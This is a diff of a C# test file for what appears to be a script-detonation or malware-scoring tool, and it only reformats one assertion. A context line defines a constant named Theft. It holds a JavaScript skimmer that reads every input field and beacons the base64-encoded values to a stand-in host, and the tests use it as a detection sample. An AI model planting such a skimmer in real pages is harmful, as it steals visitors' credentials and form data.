@@ -85,7 +85,8 @@ public sealed class DetonatorTests : IAsyncDisposable
 
         var report = await _detonator.DetonateAsync(script, Now);
 
-        Assert.Contains(DetonationEvidence.OpinionOf(report, script).Findings, static finding => finding is { Rule: "detonation-sealed-payload", Weight: >= 5.2 });
+        Assert.Contains(DetonationEvidence.OpinionOf(report, script).Findings,
+            static finding => finding is { Rule: "detonation-sealed-payload", Weight: >= 5.2 });
     }
 
     private const string Theft = "document.addEventListener('change', function () { var o = ''; document.querySelectorAll('input').forEach(function (f) { o += f.value + '|' }); new Image().src = 'https://drop-box-9.test/p.gif?d=' + btoa(o) }, true);";
